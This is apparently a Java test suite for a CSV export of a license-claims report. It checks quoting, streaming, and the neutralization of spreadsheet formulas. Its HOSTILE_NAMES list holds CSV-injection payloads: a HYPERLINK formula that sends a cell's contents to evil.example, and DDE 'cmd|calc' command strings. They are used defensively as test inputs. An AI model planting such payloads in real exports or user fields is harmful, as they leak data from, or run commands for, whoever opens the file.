package org.licensekit.testkit.reports;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.Proxy;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Function;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.licensekit.core.api.DefaultCatalog;
import org.licensekit.core.api.report.ClaimRow;
import org.licensekit.core.api.report.ClaimSortKey;
import org.licensekit.core.api.report.ClaimsQuery;
import org.licensekit.core.api.report.Reports;
import org.licensekit.core.domain.UserId;
import org.licensekit.reports.csv.ClaimsCsvExport;
import org.licensekit.reports.csv.FormulaCells;

/**
 * The claims report exported as CSV and parsed back with Apache Commons CSV gives the report's rows
 * exactly, whatever quotes, commas, line breaks or non-ASCII letters the names hold; names and
 * e-mail addresses a spreadsheet would evaluate as formulas are neutralized unless the export is
 * told to write them verbatim; the export streams the report in one call, fetching no page.
 */
public abstract class ClaimsCsvExportContract extends ReportsTestSupport {

  private static final List<String> NAMES = List.of(
      "Dana \"DJ\" O'Neil", "Smith, John", "Line\nBreak\r\nTwice", "Zoë 佐藤 Ñandú", "  spaced  ");

  @BeforeEach
  void seedAwkwardNames() {
    pool("obs", OBSERVATION, 20, schoolYear(), Optional.empty());
    for (int i = 0; i < NAMES.size(); i++) {
      person("u-" + i, NAMES.get(i), "u" + i + "@example.org", DefaultCatalog.ADMINISTRATOR, i % 2 == 0 ? NORTH : SOUTH);
    }
    claimNow(UserId.of("u-1"), OBSERVATION);
  }

  private static List<CSVRecord> parse(String csv) throws IOException {
    try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv))) {
      assertThat(parser.getHeaderNames()).isEqualTo(ClaimsCsvExport.HEADER);
      return parser.getRecords();
    }
  }

  @Test
  void exportParsedBackEqualsTheReportRowByRow() throws IOException {
    ClaimsQuery query = ClaimsQuery.builder().sortBy(ClaimSortKey.USER_NAME).limit(2).build();
    StringWriter out = new StringWriter();

    long written = ClaimsCsvExport.of(reporter().reports()).write(query, out);

    List<ClaimRow> rows = allPages(query);
    List<CSVRecord> records = parse(out.toString());
    assertThat(written).isEqualTo(5);
    assertThat(records).hasSize(rows.size());
    for (int i = 0; i < rows.size(); i++) {
      ClaimRow row = rows.get(i);
      CSVRecord record = records.get(i);
      assertThat(record.get("claim_id")).isEqualTo(row.claim().value());
      assertThat(record.get("user_id")).isEqualTo(row.user().value());
      assertThat(record.get("user_name")).isEqualTo(row.userName());
      assertThat(record.get("email")).isEqualTo(row.email());
      assertThat(record.get("product")).isEqualTo(row.product().value());
      assertThat(record.get("organizations")).isEqualTo(row.organizations().get(0).value());
      assertThat(record.get("status")).isEqualTo(row.status().name());
      assertThat(record.get("pool")).isEqualTo(row.pool().value());
      assertThat(record.get("assigned_at")).isEqualTo(row.assignedAt().toString());
      assertThat(record.get("claimed_at")).isEqualTo(row.claimedAt().map(Object::toString).orElse(""));
      assertThat(record.get("expires_at")).isEqualTo(row.expiresAt().map(Object::toString).orElse(""));
    }
    assertThat(records).extracting(r -> r.get("user_name")).containsExactlyInAnyOrderElementsOf(NAMES);
  }

  @Test
  void exportStreamsTheReportInOneCallAndFetchesNoPage() {
    AtomicInteger pages = new AtomicInteger();
    AtomicInteger streams = new AtomicInteger();
    Reports real = admin.reports();
    Reports counting = (Reports) Proxy.newProxyInstance(Reports.class.getClassLoader(), new Class<?>[] {Reports.class},
        (proxy, method, args) -> {
          if (method.getName().equals("claims")) {
            pages.incrementAndGet();
          }
          if (method.getName().equals("forEachClaim")) {
            streams.incrementAndGet();
          }
          try {
            return method.invoke(real, args);
          } catch (InvocationTargetException e) {
            throw e.getCause();
          }
        });

    long written = ClaimsCsvExport.of(counting).write(ClaimsQuery.builder().limit(2).build(), new StringWriter());

    assertThat(written).isEqualTo(5);
    assertThat(pages.get()).isZero();
    assertThat(streams.get()).isEqualTo(1);
  }

  /** Names and e-mail addresses a spreadsheet would run as formulas (all accepted at registration). */
  private static final List<String> HOSTILE_NAMES = List.of(
      "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Report\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
      "\t=1+1", "\r=1+1", "  =spaced", "'=quoted");
  private static final List<String> HOSTILE_EMAILS = List.of(
      "=1+1@example.org", "+cmd@example.org", "-x@example.org", "=cmd|calc!a0@example.org",
      "ok@example.org", "ok2@example.org", "ok3@example.org", "ok4@example.org");

  private String exportHostile(Function<Reports, ClaimsCsvExport> export) {
    for (int i = 0; i < HOSTILE_NAMES.size(); i++) {
      person("h-" + i, HOSTILE_NAMES.get(i), HOSTILE_EMAILS.get(i), DefaultCatalog.ADMINISTRATOR, NORTH);
    }
    StringWriter out = new StringWriter();
    export.apply(reporter().reports()).write(ClaimsQuery.builder().limit(3).build(), out);
    return out.toString();
  }

  @Test
  void formulaNamesAndEmailsAreNeutralizedByDefaultAndReadBackExactly() throws IOException {
    String csv = exportHostile(ClaimsCsvExport::of);

    List<CSVRecord> records = parse(csv);
    for (CSVRecord record : records) {
      for (String cell : record) {
        assertThat(FormulaCells.triggers(cell)).as("cell %s starts a formula", cell).isFalse();
      }
    }
    assertThat(records).extracting(r -> FormulaCells.original(r.get("user_name")))
        .containsAll(HOSTILE_NAMES).containsAll(NAMES);
    assertThat(records).extracting(r -> FormulaCells.original(r.get("email"))).containsAll(HOSTILE_EMAILS);
    assertThat(records).extracting(r -> r.get("user_name"))
        .contains("'" + HOSTILE_NAMES.get(0), "'" + HOSTILE_NAMES.get(4), "''=quoted", "Smith, John");
  }

  @Test
  void verbatimExportWritesFormulaCellsUnchanged() throws IOException {
    String csv = exportHostile(reports -> ClaimsCsvExport.of(reports, FormulaCells.VERBATIM));

    List<CSVRecord> records = parse(csv);
    assertThat(records).extracting(r -> r.get("user_name")).containsAll(HOSTILE_NAMES);
    assertThat(records).extracting(r -> r.get("email")).containsAll(HOSTILE_EMAILS);
  }

  @Test
  void emptyReportExportsTheHeaderOnly() throws IOException {
    StringWriter out = new StringWriter();

    long written = ClaimsCsvExport.of(admin.reports()).write(ClaimsQuery.builder().product(COACHING).build(), out);

    assertThat(written).isZero();
    assertThat(parse(out.toString())).isEmpty();
    assertThat(out.toString()).isEqualTo(String.join(",", ClaimsCsvExport.HEADER) + "\r\n");
  }

  /** Pieces of names: quotes, commas, line breaks, formula starts, characters up to {@code #}, spaces at either end. */
  private static final List<String> NAME_PIECES = List.of(
      "Ana", "Bo", "Zoë", "佐藤", " ", ",", "\"", "'", "=", "+", "-", "@", "#", "!", "\n", "\r\n", "\t", ";", "x y", "$");

  /**
   * The streamed export is byte for byte what the export wrote when it printed each page of the
   * report through Apache Commons CSV's printer (the reference below), on seeded random names, sort
   * orders and page sizes, with and without formula neutralization.
   */
  @Test
  void streamedExportIsByteForByteThePagedPrinterOutput() throws IOException {
    long seed = System.nanoTime();
    java.util.Random random = new java.util.Random(seed);
    pool("random-obs", OBSERVATION, 40, schoolYear(), Optional.empty());
    for (int i = 0; i < 30; i++) {
      StringBuilder name = new StringBuilder();
      int pieces = 1 + random.nextInt(4);
      for (int j = 0; j < pieces; j++) {
        name.append(NAME_PIECES.get(random.nextInt(NAME_PIECES.size())));
      }
      if (name.toString().isBlank()) {
        name.append("Cy");
      }
      String email = List.of("", "+", "-", "=").get(random.nextInt(4)) + "r" + i + "@example.org";
      UserId user = person("r-" + i, name.toString(), email, DefaultCatalog.ADMINISTRATOR, random.nextBoolean() ? NORTH : SOUTH);
      if (random.nextInt(3) == 0) {
        claimNow(user, OBSERVATION);
      }
    }
    for (int round = 0; round < 6; round++) {
      ClaimsQuery query = ClaimsQuery.builder()
          .sortBy(ClaimSortKey.values()[random.nextInt(ClaimSortKey.values().length)])
          .direction(random.nextBoolean() ? org.licensekit.core.api.report.SortDirection.ASCENDING
              : org.licensekit.core.api.report.SortDirection.DESCENDING)
          .limit(1 + random.nextInt(7)).build();
      FormulaCells formulas = random.nextBoolean() ? FormulaCells.NEUTRALIZE : FormulaCells.VERBATIM;
      StringWriter streamed = new StringWriter();

      ClaimsCsvExport.of(reporter().reports(), formulas).write(query, streamed);

      assertThat(streamed.toString()).as("seed %d, %s, %s", seed, query, formulas).isEqualTo(printedPageByPage(query, formulas));
    }
  }

  /** The reference: every page of the report, each row printed by Commons CSV's printer as a list of cells. */
  private String printedPageByPage(ClaimsQuery query, FormulaCells formulas) throws IOException {
    StringBuilder out = new StringBuilder();
    org.apache.commons.csv.CSVPrinter printer = new org.apache.commons.csv.CSVPrinter(out,
        CSVFormat.RFC4180.builder().setHeader(ClaimsCsvExport.HEADER.toArray(String[]::new)).get());
    for (ClaimRow row : allPages(query)) {
      printer.printRecord(java.util.stream.Stream.of(row.claim().value(), row.user().value(), row.userName(), row.email(),
              row.product().value(), row.organizations().stream().map(Object::toString).collect(java.util.stream.Collectors.joining(";")),
              row.status().name(), row.pool().value(), row.assignedAt().toString(),
              row.claimedAt().map(Object::toString).orElse(""), row.expiresAt().map(Object::toString).orElse(""))
          .map(formulas::apply).toList());
    }
    printer.flush();
    return out.toString();
  }
}
